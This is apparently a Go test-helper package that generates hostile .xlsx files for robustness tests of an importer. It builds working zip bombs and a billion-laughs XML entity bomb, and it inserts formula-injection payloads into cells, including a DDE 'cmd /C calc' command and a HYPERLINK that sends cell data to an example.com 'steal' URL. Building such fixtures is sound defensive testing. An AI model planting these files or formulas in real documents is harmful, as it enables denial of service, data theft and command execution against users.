// Package testfiles makes hostile input files for robustness tests: zip
// bombs, huge shared strings, formulas in text cells, workbooks with the
// wrong sheet, files that are not zips at all, encrypted or old .xls files
// renamed to .xlsx, and an XML entity bomb. Every generator is
// deterministic and cheap: the bombs are built from a repeated deflate
// block, so a 1 GiB part costs about 1 MB of file and a few milliseconds.
//
// It is used by the tests of cmd/jixiao (reliability) and may be used by
// any package's tests; nothing in the program imports it.
package testfiles

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"io"
	"strings"

	"github.com/xuri/excelize/v2"
)

// Hostile is one hostile file with what it is meant to provoke.
type Hostile struct {
	Name string // file name, e.g. "zipbomb.xlsx"
	What string // one line in English for reports
	Data []byte
}

// All returns every hostile file. base is a real xlsx of ours (e.g.
// export.WriteXLSX of the sample); the formula and truncated variants are
// made from it.
func All(base []byte) ([]Hostile, error) {
	var out []Hostile
	add := func(name, what string, data []byte, err error) error {
		if err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		out = append(out, Hostile{name, what, data})
		return nil
	}
	gens := []gen{
		{"zipbomb.xlsx", "zip bomb: sheet1.xml declares and really holds 1 GiB (2.5 MB file)", func() ([]byte, error) { return ZipBomb(1<<30, false) }},
		{"zipbomb-lying.xlsx", "zip bomb whose directory lies: declares 1 KiB, holds 1 GiB", func() ([]byte, error) { return ZipBomb(1<<30, true) }},
		{"sharedstrings-100mb.xlsx", "100 MiB of shared strings (1 million long strings)", func() ([]byte, error) { return HugeSharedStrings(100 << 20) }},
		{"sharedstrings-30mb.xlsx", "30 MiB of shared strings, just under the per-part limit", func() ([]byte, error) { return HugeSharedStrings(30 << 20) }},
		{"many-parts.xlsx", "a zip with 5,000 parts", func() ([]byte, error) { return ManyParts(5000) }},
		{"xml-entity-bomb.xlsx", "billion-laughs entity expansion in sheet1.xml", XMLEntityBomb},
		{"wrong-sheet.xlsx", "a valid workbook holding an unrelated table (a staff list)", WrongSheet},
		{"formulas.xlsx", "our form without the hidden data sheet, 16 long text cells replaced by formulas without cached values (=1+1, HYPERLINK, DDE, WEBSERVICE)", func() ([]byte, error) { return Formulas(base) }},
		{"not-a-zip.xlsx", "64 KiB of random bytes named .xlsx", func() ([]byte, error) { return Random(64<<10, 1), nil }},
		{"encrypted.xlsx", "an OLE compound file (what Excel writes for a password-protected .xlsx, and what an old .xls is) named .xlsx", func() ([]byte, error) { return OLE(), nil }},
		{"truncated.xlsx", "our xlsx cut in half", func() ([]byte, error) { return base[:len(base)/2], nil }},
		{"empty.xlsx", "an empty file", func() ([]byte, error) { return []byte{}, nil }},
		{"huge-file.xlsx", "25 MiB file starting like a zip (over the 20 MB import cap)", func() ([]byte, error) { return append([]byte("PK\x03\x04"), make([]byte, 25<<20)...), nil }},
	}
	gens = append(gens, hostileXLS()...)
	gens = append(gens, hostileDOCX()...)
	for _, g := range gens {
		data, err := g.make()
		if err := add(g.name, g.what, data, err); err != nil {
			return nil, err
		}
	}
	return out, nil
}

// gen makes one hostile file.
type gen struct {
	name, what string
	make       func() ([]byte, error)
}

// Random returns n pseudo-random bytes from seed (xorshift; deterministic).
func Random(n int, seed uint64) []byte {
	b := make([]byte, n)
	x := seed*0x9E3779B97F4A7C15 | 1
	for i := 0; i+8 <= n; i += 8 {
		x ^= x << 13
		x ^= x >> 7
		x ^= x << 17
		binary.LittleEndian.PutUint64(b[i:], x)
	}
	return b
}

// OLE returns the start of an OLE compound document (the container of
// encrypted .xlsx and of .xls files).
func OLE() []byte {
	b := make([]byte, 4096)
	copy(b, []byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1})
	copy(b[512:], Random(3584, 3))
	return b
}

// minimal workbook parts around one sheet.
const (
	contentTypes = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>`
	rootRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`
	workbook = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>`
	workbookRels = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/><Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/></Relationships>`
	sheetHead = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>`
	sheetTail  = `</sheetData></worksheet>`
	smallSheet = sheetHead + `<row r="1"><c r="A1" t="s"><v>0</v></c></row>` + sheetTail
	smallSST   = `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>x</t></si></sst>`
)

// part is one zip entry: either plain data or a pre-built raw deflate
// stream with its sizes.
type part struct {
	name string
	data []byte
	raw  *rawDeflate
}

type rawDeflate struct {
	compressed   []byte
	size         uint64 // true uncompressed size
	declaredSize uint64
	crc          uint32
}

func writeZip(parts []part) ([]byte, error) {
	var buf bytes.Buffer
	zw := zip.NewWriter(&buf)
	for _, p := range parts {
		if p.raw != nil {
			w, err := zw.CreateRaw(&zip.FileHeader{
				Name:               p.name,
				Method:             zip.Deflate,
				CRC32:              p.raw.crc,
				CompressedSize64:   uint64(len(p.raw.compressed)),
				UncompressedSize64: p.raw.declaredSize,
			})
			if err != nil {
				return nil, err
			}
			if _, err := w.Write(p.raw.compressed); err != nil {
				return nil, err
			}
			continue
		}
		w, err := zw.Create(p.name)
		if err != nil {
			return nil, err
		}
		if _, err := w.Write(p.data); err != nil {
			return nil, err
		}
	}
	if err := zw.Close(); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// repeatDeflate returns a raw deflate stream of head, then chunk repeated
// until the total reaches at least size bytes, then tail. It compresses
// chunk twice after a sync flush and repeats the second (history-dependent
// but identical) block, so it never compresses more than a few chunks.
func repeatDeflate(head, chunk, tail []byte, size uint64) (*rawDeflate, error) {
	var out bytes.Buffer
	fw, err := flate.NewWriter(&out, flate.DefaultCompression)
	if err != nil {
		return nil, err
	}
	crc := crc32.NewIEEE()
	total := uint64(0)
	write := func(b []byte) error {
		crc.Write(b)
		total += uint64(len(b))
		_, err := fw.Write(b)
		return err
	}
	if err := write(head); err != nil {
		return nil, err
	}
	// Two chunks to fill the window, then one more whose block we repeat.
	for i := 0; i < 2; i++ {
		if err := write(chunk); err != nil {
			return nil, err
		}
	}
	if err := fw.Flush(); err != nil {
		return nil, err
	}
	mark := out.Len()
	if err := write(chunk); err != nil {
		return nil, err
	}
	if err := fw.Flush(); err != nil {
		return nil, err
	}
	block := append([]byte(nil), out.Bytes()[mark:]...)
	// Check that the block is self-similar: one more chunk gives the same bytes.
	mark = out.Len()
	if err := write(chunk); err != nil {
		return nil, err
	}
	if err := fw.Flush(); err != nil {
		return nil, err
	}
	if !bytes.Equal(out.Bytes()[mark:], block) {
		return nil, fmt.Errorf("deflate block of the chunk is not repeatable")
	}
	// The CRC of the repeated chunks is combined arithmetically rather
	// than computed over a gigabyte.
	sum, chunkSum := crc.Sum32(), crc32.ChecksumIEEE(chunk)
	for total+uint64(len(tail)) < size {
		out.Write(block)
		sum = crc32Combine(sum, chunkSum, int64(len(chunk)))
		total += uint64(len(chunk))
	}
	// Finish with tail; the compressor's history no longer matches what we
	// appended, so tail goes in a fresh stored block written by hand.
	writeStored(&out, tail)
	sum = crc32Combine(sum, crc32.ChecksumIEEE(tail), int64(len(tail)))
	total += uint64(len(tail))
	return &rawDeflate{compressed: out.Bytes(), size: total, declaredSize: total, crc: sum}, nil
}

// crc32Combine returns the IEEE CRC-32 of A followed by B from the CRCs of
// A and B and the length of B (zlib's crc32_combine).
func crc32Combine(crc1, crc2 uint32, len2 int64) uint32 {
	if len2 <= 0 {
		return crc1
	}
	var even, odd [32]uint32
	odd[0] = 0xedb88320 // the CRC-32 polynomial, reflected
	row := uint32(1)
	for n := 1; n < 32; n++ {
		odd[n] = row
		row <<= 1
	}
	gf2Square(&even, &odd) // two zero bits
	gf2Square(&odd, &even) // four zero bits
	for {
		gf2Square(&even, &odd)
		if len2&1 != 0 {
			crc1 = gf2Times(&even, crc1)
		}
		len2 >>= 1
		if len2 == 0 {
			break
		}
		gf2Square(&odd, &even)
		if len2&1 != 0 {
			crc1 = gf2Times(&odd, crc1)
		}
		len2 >>= 1
		if len2 == 0 {
			break
		}
	}
	return crc1 ^ crc2
}

func gf2Times(mat *[32]uint32, vec uint32) uint32 {
	var sum uint32
	for i := 0; vec != 0; i++ {
		if vec&1 != 0 {
			sum ^= mat[i]
		}
		vec >>= 1
	}
	return sum
}

func gf2Square(square, mat *[32]uint32) {
	for n := 0; n < 32; n++ {
		square[n] = gf2Times(mat, mat[n])
	}
}

// writeStored appends b as final stored deflate blocks. The stream before
// ends on a byte boundary (after a sync flush).
func writeStored(out *bytes.Buffer, b []byte) {
	for {
		n := len(b)
		if n > 65535 {
			n = 65535
		}
		final := byte(0)
		if n == len(b) {
			final = 1
		}
		out.WriteByte(final) // BFINAL, BTYPE=00 (stored), padded to the byte
		var h [4]byte
		binary.LittleEndian.PutUint16(h[:2], uint16(n))
		binary.LittleEndian.PutUint16(h[2:], ^uint16(n))
		out.Write(h[:])
		out.Write(b[:n])
		b = b[n:]
		if final == 1 {
			return
		}
	}
}

func workbookParts(sheet, sst part) []part {
	return []part{
		{name: "[Content_Types].xml", data: []byte(contentTypes)},
		{name: "_rels/.rels", data: []byte(rootRels)},
		{name: "xl/workbook.xml", data: []byte(workbook)},
		{name: "xl/_rels/workbook.xml.rels", data: []byte(workbookRels)},
		sheet,
		sst,
	}
}

// ZipBomb returns a workbook whose sheet1.xml unpacks to size bytes of
// valid XML (rows of blank cells). When lie is set, the zip directory
// declares 1 KiB instead.
func ZipBomb(size uint64, lie bool) ([]byte, error) {
	chunk := []byte(strings.Repeat(`<row><c><v>0</v></c></row>`, 40000))
	raw, err := repeatDeflate([]byte(sheetHead), chunk, []byte(sheetTail), size)
	if err != nil {
		return nil, err
	}
	if lie {
		raw.declaredSize = 1024
	}
	return writeZip(workbookParts(
		part{name: "xl/worksheets/sheet1.xml", raw: raw},
		part{name: "xl/sharedStrings.xml", data: []byte(smallSST)}))
}

// HugeSharedStrings returns a workbook whose sharedStrings.xml holds about
// size bytes of distinct-looking long strings (honestly declared).
func HugeSharedStrings(size uint64) ([]byte, error) {
	si := `<si><t>` + strings.Repeat("很长的共享字符串", 12) + `</t></si>`
	chunk := []byte(strings.Repeat(si, 4000))
	head := `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>
<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">`
	raw, err := repeatDeflate([]byte(head), chunk, []byte(`</sst>`), size)
	if err != nil {
		return nil, err
	}
	return writeZip(workbookParts(
		part{name: "xl/worksheets/sheet1.xml", data: []byte(smallSheet)},
		part{name: "xl/sharedStrings.xml", raw: raw}))
}

// ManyParts returns a workbook with n extra small parts.
func ManyParts(n int) ([]byte, error) {
	parts := workbookParts(
		part{name: "xl/worksheets/sheet1.xml", data: []byte(smallSheet)},
		part{name: "xl/sharedStrings.xml", data: []byte(smallSST)})
	for i := 0; i < n; i++ {
		parts = append(parts, part{name: fmt.Sprintf("xl/media/image%d.xml", i), data: []byte("<x/>")})
	}
	return writeZip(parts)
}

// XMLEntityBomb returns a workbook whose sheet declares nested entities
// (billion laughs).
func XMLEntityBomb() ([]byte, error) {
	var b strings.Builder
	b.WriteString(`<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY l0 "哈哈哈哈哈哈哈哈哈哈">`)
	for i := 1; i <= 9; i++ {
		fmt.Fprintf(&b, `<!ENTITY l%d "%s">`, i, strings.Repeat(fmt.Sprintf("&l%d;", i-1), 10))
	}
	b.WriteString(`]><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&l9;</t></is></c></row></sheetData></worksheet>`)
	return writeZip(workbookParts(
		part{name: "xl/worksheets/sheet1.xml", data: []byte(b.String())},
		part{name: "xl/sharedStrings.xml", data: []byte(smallSST)}))
}

// WrongSheet returns a valid workbook that holds an unrelated table.
func WrongSheet() ([]byte, error) {
	x := excelize.NewFile()
	defer x.Close()
	x.SetSheetName("Sheet1", "职工名册")
	rows := [][]any{{"姓名", "性别", "出生年月", "工资（元）"}, {"张三", "男", "1980-01", 5200}, {"李四", "女", "1985-06", 4800}}
	for i, r := range rows {
		cell, _ := excelize.CoordinatesToCellName(1, i+1)
		if err := x.SetSheetRow("职工名册", cell, &r); err != nil {
			return nil, err
		}
	}
	var buf bytes.Buffer
	if err := x.Write(&buf); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// FormulaTexts are the formulas Formulas writes into text cells.
var FormulaTexts = []string{
	`1+1`,
	`HYPERLINK("http://example.com/steal?x="&A1,"点击查看")`,
	`cmd|' /C calc'!A0`,
	`WEBSERVICE("http://example.com/")`,
}

// Formulas takes our xlsx (base), drops every sheet but the first (so the
// hidden data sheet cannot be used) and puts formulas into text cells of
// the first sheet: every cell whose text is long enough to be a target or
// a task's content, in turn, gets one of FormulaTexts. Cached values are
// left out, as a hostile file would.
func Formulas(base []byte) ([]byte, error) {
	x, err := excelize.OpenReader(bytes.NewReader(base))
	if err != nil {
		return nil, err
	}
	defer x.Close()
	sheets := x.GetSheetList()
	if len(sheets) == 0 {
		return nil, fmt.Errorf("no sheet")
	}
	for _, s := range sheets[1:] {
		if err := x.DeleteSheet(s); err != nil {
			return nil, err
		}
	}
	rows, err := x.GetRows(sheets[0])
	if err != nil {
		return nil, err
	}
	n := 0
	for r, row := range rows {
		for c, v := range row {
			if len([]rune(v)) < 25 || n >= 4*len(FormulaTexts) {
				continue
			}
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if err := x.SetCellFormula(sheets[0], cell, FormulaTexts[n%len(FormulaTexts)]); err != nil {
				return nil, err
			}
			n++
		}
	}
	if n == 0 {
		return nil, fmt.Errorf("no text cell found")
	}
	var buf bytes.Buffer
	if err := x.Write(&buf); err != nil {
		return nil, err
	}
	return buf.Bytes(), nil
}

// Unzipped returns the total uncompressed size of a zip's parts as really
// read (not as declared), for tests of the generators; -1 when data is not
// a zip.
func Unzipped(data []byte) int64 {
	zr, err := zip.NewReader(bytes.NewReader(data), int64(len(data)))
	if err != nil {
		return -1
	}
	var n int64
	for _, f := range zr.File {
		rc, err := f.OpenRaw()
		if err != nil {
			return -1
		}
		var r io.Reader = rc
		if f.Method == zip.Deflate {
			r = flate.NewReader(rc)
		}
		m, _ := io.Copy(io.Discard, r)
		n += m
	}
	return n
}
